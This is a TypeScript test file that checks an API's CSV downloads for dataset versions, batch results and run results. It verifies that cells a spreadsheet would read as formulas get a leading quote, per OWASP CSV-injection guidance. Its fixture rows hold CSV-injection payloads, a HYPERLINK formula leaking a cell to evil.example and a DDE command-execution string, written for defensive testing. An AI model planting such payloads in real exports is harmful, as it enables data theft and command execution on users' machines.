// Every CSV download of the API is safe to open in a spreadsheet (OWASP CSV injection): a cell that a
// spreadsheet would read as a formula (=, +, -, @, tab or carriage return first) starts with a single
// quote; plain numbers stay numbers; the JSONL download of the same data is exact. On both databases:
// dataset version downloads, batch results and run results.
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { CsvParser } from "@/lib/core/csv";
import type { ScoredExample } from "@/lib/core/types";
import {
  createRun,
  findOrCreatePromptVersion,
  finishRun,
  listExamples,
  upsertExampleResults,
  upsertTask,
} from "@/lib/db";
import { TEST_PROVIDERS } from "@/lib/db/test-databases";
import { type ApiWorld, createApiWorld } from "@/lib/http/testing";
import { embeddedRunner } from "@/lib/runner/index";
import { optimizationReport, storedRunConfig } from "@/lib/validation/testing/stored-fixtures";
import * as batchResults from "./projects/[project]/batches/[batch]/results/route";
import * as batches from "./projects/[project]/batches/route";
import * as datasetDownload from "./projects/[project]/datasets/[dataset]/versions/[version]/download/route";
import * as datasets from "./projects/[project]/datasets/route";
import * as runResults from "./projects/[project]/runs/[run]/results/download/route";

/** Text a spreadsheet would run, and numbers it must keep. */
const ROWS = [
  { id: "r1", text: '=HYPERLINK("http://evil.example/?leak="&A1,"open")', label: "+1+1" },
  { id: "r2", text: "@SUM(A1:A9)", label: "-2+3" },
  { id: "r3", text: "\t=cmd|' /C calc'!A0", label: "-1.5" },
  { id: "r4", text: "\r=1+1", label: "plain" },
];

const parseCsv = (text: string) => {
  const parser = new CsvParser();
  return [...parser.push(text), ...parser.end()].map((r) => r.fields);
};

/** What a spreadsheet-safe writer must turn `value` into. */
const safe = (value: string) =>
  /^[=+\-@\t\r]/.test(value) && !/^[+-]?\d+(\.\d+)?$/.test(value) ? `'${value}` : value;

describe.each(TEST_PROVIDERS)("CSV downloads are spreadsheet-safe on %s", (provider) => {
  let w: ApiWorld;
  let viewer: { bearer: string };
  let datasetVersionId: string;

  beforeAll(async () => {
    w = await createApiWorld(provider);
    viewer = { bearer: w.keys.alphaViewer };
    const upload = await w.call(datasets.POST, {
      as: { bearer: w.keys.alphaEditor },
      params: { project: "alpha" },
      query: { name: "formulas", format: "jsonl", expected: "label", id: "id" },
      rawBody: ROWS.map((row) => JSON.stringify(row)).join("\n"),
      contentType: "application/x-ndjson",
    });
    expect(upload.status, upload.text).toBe(201);
    datasetVersionId = upload.json.version.id;
  }, 60_000);

  afterAll(async () => {
    await embeddedRunner().idle();
    await w?.close();
  });

  it("dataset version: CSV cells neutralised, numbers kept; JSONL is exact", async () => {
    const params = { project: "alpha", dataset: "formulas", version: "1" };
    const csv = await w.call(datasetDownload.GET, { as: viewer, params, query: { format: "csv" } });
    expect(csv.status, csv.text).toBe(200);
    const [header, ...cells] = parseCsv(csv.text);
    expect(header).toEqual(["id", "text", "label"]);
    expect(cells).toEqual(ROWS.map((r) => [r.id, safe(r.text), safe(r.label)]));
    expect(cells[2]![2]).toBe("-1.5");
    const jsonl = await w.call(datasetDownload.GET, { as: viewer, params, query: { format: "jsonl" } });
    expect(
      jsonl.text
        .trimEnd()
        .split("\n")
        .map((line) => JSON.parse(line)),
    ).toEqual(ROWS);
  });

  it("batch results: input, output and error cells neutralised; JSONL is exact", async () => {
    const task = await upsertTask(w.db, w.projects.alpha.id, { name: "echo", description: "" });
    await findOrCreatePromptVersion(
      w.db,
      task.id,
      { systemPrompt: "", outputPrompt: "Text: {{text}}", demos: [], params: {} },
      { source: "manual" },
    );
    const started = await w.call(batches.POST, {
      as: { bearer: w.keys.alphaEditor },
      params: { project: "alpha" },
      body: { task: "echo", datasetVersionId, model: "sim:default" },
    });
    expect(started.status, started.text).toBe(202);
    const batchId = started.json.id as string;
    await embeddedRunner().idle();
    // What a model (or a provider's error) can answer lands in these columns too.
    await w.db.batchRow.updateMany({
      where: { batchId, rowNumber: 1 },
      data: { output: "=2+2", error: null },
    });
    await w.db.batchRow.updateMany({
      where: { batchId, rowNumber: 2 },
      data: { output: null, error: "@oops" },
    });

    const params = { project: "alpha", batch: batchId };
    const csv = await w.call(batchResults.GET, { as: viewer, params, query: { format: "csv" } });
    expect(csv.status, csv.text).toBe(200);
    const [header, ...cells] = parseCsv(csv.text);
    expect(header).toEqual(["row", "key", "text", "status", "output", "error"]);
    expect(cells.map((c) => c.slice(0, 3))).toEqual(ROWS.map((r, i) => [String(i + 1), r.id, safe(r.text)]));
    expect(cells[0]![4]).toBe("'=2+2");
    expect(cells[1]![5]).toBe("'@oops");
    const jsonl = await w.call(batchResults.GET, { as: viewer, params, query: { format: "jsonl" } });
    const records = jsonl.text
      .trimEnd()
      .split("\n")
      .map((line) => JSON.parse(line));
    expect(records.map((r) => r.input.text)).toEqual(ROWS.map((r) => r.text));
    expect([records[0].output, records[1].error]).toEqual(["=2+2", "@oops"]);
  }, 60_000);

  it("run results: inputs, expected outputs, model outputs and errors neutralised; a negative delta kept", async () => {
    const task = await upsertTask(w.db, w.projects.alpha.id, { name: "echo", description: "" });
    const version = await findOrCreatePromptVersion(
      w.db,
      task.id,
      { systemPrompt: "", outputPrompt: "Text: {{text}}", demos: [], params: {} },
      { source: "manual" },
    );
    const run = await createRun(w.db, {
      projectId: w.projects.alpha.id,
      taskId: task.id,
      kind: "optimize",
      baselineVersionId: version.version.id,
      datasetVersionId,
      config: storedRunConfig(),
      seed: 1,
    });
    const keys = (await listExamples(w.db, datasetVersionId)).map((e) => e.id);
    const scored = (
      id: string,
      score: number,
      output: string | null,
      error: string | null,
    ): ScoredExample => ({
      exampleId: id,
      output,
      error,
      score,
      metrics: {},
      usage: { inputTokens: 1, outputTokens: 1 },
      costUsd: 0,
      latencyMs: 1,
      cached: false,
    });
    await upsertExampleResults(w.db, run.id, "final/test/baseline", "test", [
      scored(keys[0]!, 1, "=1+1", null),
      scored(keys[1]!, 1, null, "-provider said no"),
    ]);
    await upsertExampleResults(w.db, run.id, "final/test/best", "test", [
      scored(keys[0]!, 0.5, "+cmd", null),
      scored(keys[1]!, 0, "@x", null),
    ]);
    const interval = (mean: number) => ({ mean, low: mean, high: mean, n: 2 });
    await finishRun(w.db, run.id, {
      status: "succeeded",
      report: optimizationReport({
        bestOrigin: { iteration: 1, candidate: 0 },
        test: { baseline: interval(1), best: interval(0.25), gain: interval(-0.75), complete: true },
      }),
      bestVersionId: version.version.id,
    });
    const csv = await w.call(runResults.GET, {
      as: viewer,
      params: { project: "alpha", run: run.id },
      query: { format: "csv" },
    });
    expect(csv.status, csv.text).toBe(200);
    const [header, ...cells] = parseCsv(csv.text);
    const column = (name: string) => header!.indexOf(name);
    expect(cells.map((c) => c[column("input.text")])).toEqual([safe(ROWS[0]!.text), safe(ROWS[1]!.text)]);
    expect(cells.map((c) => c[column("expected")])).toEqual(["'+1+1", "'-2+3"]);
    expect(cells.map((c) => c[column("baseline_output")])).toEqual(["'=1+1", ""]);
    expect(cells.map((c) => c[column("baseline_error")])).toEqual(["", "'-provider said no"]);
    expect(cells.map((c) => c[column("winner_output")])).toEqual(["'+cmd", "'@x"]);
    expect(cells.map((c) => c[column("delta")])).toEqual(["-0.5", "-1"]);
  });
});
